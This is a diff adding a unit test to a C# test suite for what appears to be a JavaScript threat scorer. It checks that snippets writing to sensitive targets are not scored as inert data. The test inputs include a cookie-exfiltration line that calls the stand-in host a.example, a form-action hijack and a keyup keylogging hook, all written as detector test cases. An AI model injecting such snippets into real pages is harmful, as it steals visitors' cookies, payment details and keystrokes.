@@ -28,6 +28,13 @@ public sealed class ScriptStateTests
         (verdict.Score, verdict.Severity).ShouldBe((0, Severity.None));
     }
 
+    /// <summary>To write to these is to send, to load, or to run later.</summary>
+    [Theory]
+    [InlineData("document.forms[0].action = 'https://shop.example/pay'")]
+    [InlineData("document.body.innerHTML += '<img src=//a.example/?' + document.cookie + '>'")]
+    [InlineData("x.onkeyup = k")]
+    public void Score_WhatActsIsWrittenTo_IsNoData(string code) => Score(code).State.ShouldNotBe(ScriptState.Data);
+
     [Theory]
     [InlineData("")]
     [InlineData("{\"a\":[1,2,3]}")]
